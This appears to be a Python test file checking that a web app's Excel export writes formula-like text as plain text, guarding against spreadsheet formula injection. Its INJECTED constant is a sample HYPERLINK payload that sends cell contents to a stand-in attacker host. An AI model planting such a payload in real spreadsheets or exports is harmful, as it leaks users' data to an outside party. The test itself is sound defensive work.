"""Every Excel export goes through web.workbooks: text stays text (no formula injection)."""
import io

from openpyxl import load_workbook

from kinerja.core.tables import Row, Sheet
from web.workbooks import to_xlsx

INJECTED = '=HYPERLINK("http://attacker.example/?"&A1,"Klik")'


def test_text_that_looks_like_a_formula_is_written_as_text():
    data = to_xlsx([Sheet(name="Rekap", title="=1+1", header=["Nama", "Nilai"],
                          rows=[[INJECTED, 3], Row(["Budi", 4])], notes=["=SUM(B1:B9)"])])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["A1"].value == "=1+1"
    assert INJECTED in [cell.value for cell in cells]
    assert [cell.value for cell in cells if cell.data_type == "n"] == [3, 4]  # figures stay numbers
